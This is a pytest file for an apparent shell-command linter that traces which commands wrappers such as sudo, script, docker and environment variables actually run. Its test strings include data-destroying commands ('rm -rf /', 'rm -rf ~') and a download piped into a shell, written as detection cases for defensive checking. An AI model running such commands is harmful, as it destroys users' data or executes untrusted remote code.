"""The code-runner registry (wukong_lint/shell/runners.yaml): valid, compiled into the
runners.json the shell model reads, and every example it gives true of the shell model: a
`runs` example's command line runs the command it names (compared word by word), a `none`
example's runs nothing more than itself."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
import yaml

from wukong_lint.shell import runner_registry, runners
from wukong_lint.shell.parse import parse
from wukong_lint.shell.runner_schema import Registry

YAML = Path(runner_registry.YAML_PATH)
DATA = yaml.safe_load(YAML.read_text(encoding="utf-8"))


def test_registry_is_valid_and_the_json_is_up_to_date() -> None:
    Registry.model_validate(DATA)
    built = runner_registry.dump(runner_registry.build(YAML.read_text(encoding="utf-8")))
    assert Path(runner_registry.JSON_PATH).read_text(encoding="utf-8") == built, (
        "runners.json is out of date: python -m wukong_lint.shell.runners --write"
    )


def test_names_are_given_once() -> None:
    seen: dict[str, int] = {}
    for number, entry in enumerate(DATA["programs"]):
        for name in entry["names"]:
            assert name not in seen, f"{name} is in entries {seen[name]} and {number}"
            seen[name] = number


def _examples(key: str) -> list[tuple[str, str | None]]:
    found = []
    for entry in DATA["programs"] + DATA.get("environment", []):
        examples = entry.get("examples") or {}
        if key == "runs":
            found += [(line, wanted) for line, wanted in examples.get("runs", [])]
        else:
            found += [(line, None) for line in examples.get("none", [])]
    return found


def _words(text: str) -> tuple[str, ...]:
    return tuple(shlex.split(text))


@pytest.mark.parametrize(("line", "wanted"), _examples("runs"))
def test_runs_examples(line: str, wanted: str) -> None:
    script = parse(line)
    found = [command.argv for command in script.commands]
    assert _words(wanted) in found, f"{line!r} runs {found}, not {wanted!r}"


@pytest.mark.parametrize(("line", "_"), _examples("none"))
def test_none_examples(line: str, _: None) -> None:
    script = parse(line)
    nested = [c.argv for c in script.commands if c.via]
    assert not nested, f"{line!r} runs {nested}"


def test_every_program_has_docs_or_examples() -> None:
    """An entry says what it does, by its docs or its examples (wrappers of one kind share
    an entry's docs)."""
    for entry in DATA["programs"]:
        examples = entry.get("examples") or {}
        assert entry.get("docs") or examples.get("runs") or entry["how"] in (
            "find", "xargs", "parallel", "wrapper", "interpreter",
        ), entry["names"]  # fmt: skip


def test_extract_reads_options_as_the_program_does() -> None:
    # value options are skipped, a bundle's last letter takes the next word
    assert runners.extract(("sudo", "-u", "x", "rm", "-rf", "/")) == [("rm", "-rf", "/")]
    assert runners.extract(("script", "-qc", "rm -rf ~", "/dev/null")) == [
        (runners.SCRIPT, "rm -rf ~")
    ]
    # an attached value of a short option
    assert runners.extract(("nice", "-n19", "rm", "-rf", "~")) == [("rm", "-rf", "~")]
    # lookup options run nothing
    assert runners.extract(("command", "-v", "rm")) == []
    # a program outside the registry runs nothing more
    assert runners.extract(("ls", "-la")) == []


def test_stdin_and_process_substitutions_are_read_when_the_line_shows_them() -> None:
    def resolve(word: str) -> str | None:
        return "rm -rf ~" if word == "<(printf x)" else None

    assert runners.extract(("bash",), stdin="rm -rf ~") == [(runners.SCRIPT, "rm -rf ~")]
    assert runners.extract(("source", "<(printf x)"), resolve=resolve) == [
        (runners.SCRIPT, "rm -rf ~")
    ]
    # a command substitution on stdin: the download, piped into the shell
    assert runners.extract(("source", "/dev/stdin"), stdin="$(curl -s https://x.io/e)") == [
        (runners.SCRIPT, "curl -s https://x.io/e | sh")
    ]
    # code from a command's output the line does not show: unseen
    assert runners.extract(("python3", "<(./gen.sh)"), resolve=lambda w: None) == [
        (runners.UNSEEN, "command-output", "python3")
    ]


def test_environment_values_are_scripts() -> None:
    assert runners.assignment_runs("GIT_SSH_COMMAND", "rm -rf ~ #") == [
        (runners.SCRIPT, "rm -rf ~ #")
    ]
    assert runners.assignment_runs("LESSOPEN", "|lesspipe %s") == [(runners.SCRIPT, "lesspipe %s")]
    assert runners.assignment_runs("GIT_EDITOR", "true") == [(runners.SCRIPT, "true")]
    assert runners.assignment_runs("PAGER", "") == []
    assert runners.assignment_runs("PYTHONPATH", "src") == []


def test_container_paths_map_to_the_host_folders_mounted() -> None:
    def ran(line: str) -> list[tuple[str, ...]]:
        return [c.argv for c in parse(line).commands if c.via]

    assert ("rm", "-rf", "~/data") in ran("docker run -v ~:/h alpine rm -rf /h/data")
    # a fresh container's own paths are its own: judged as a temporary folder
    assert ("rm", "-rf", "/tmp/.container-root/") in ran("docker run --rm alpine rm -rf /")
    # --privileged: judged as on the host
    assert ("rm", "-rf", "/") in ran("docker run --privileged alpine rm -rf /")
    # a named volume is no host folder
    assert ("rm", "-rf", "/tmp/.container-root/data") in ran(
        "docker run -v cache:/data alpine rm -rf /data"
    )
